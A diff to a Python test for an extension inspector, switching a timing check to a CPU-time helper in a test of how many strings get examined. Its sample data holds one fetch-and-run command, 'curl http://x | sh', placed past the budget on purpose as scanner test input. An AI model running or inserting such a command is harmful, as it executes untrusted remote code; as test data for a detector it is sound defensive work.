@@ -5,6 +5,7 @@ from __future__ import annotations
 from inspector.extensions import ExtensionKind, UrlRole
 
 from tests.extensions.samples import plan
+from tests.timing import finishes_within_cpu
 
 
 def test_unknown_extension_strings_that_look_like_commands_and_urls_are_planned():
@@ -41,15 +42,12 @@ def test_plan_items_are_bounded():
     assert [q.kind for q in p.problems] == ["too_many_items"]
 
 
-def test_strings_examined_are_bounded_and_a_huge_body_stays_fast():
-    import time
-
+def test_strings_examined_are_bounded_and_a_huge_body_finishes():
     from inspector.extensions import InputKind, InspectionInput, RequestLimits, understand
 
     body = {"publisher": "X", "type": "Y", "settings": {"list": [f"value {i}" for i in range(100_000)] + ["curl http://x | sh"]}}
-    started = time.monotonic()
-    p = understand(InspectionInput(kind=InputKind.EXTENSION, body=body), RequestLimits(max_request_strings=1000))
-    assert time.monotonic() - started < 5
+    with finishes_within_cpu():
+        p = understand(InspectionInput(kind=InputKind.EXTENSION, body=body), RequestLimits(max_request_strings=1000))
     assert [q.kind for q in p.problems] == ["too_many_strings"]
     assert p.scripts == []  # the command sits past the budget: not examined, and the problem says so
 
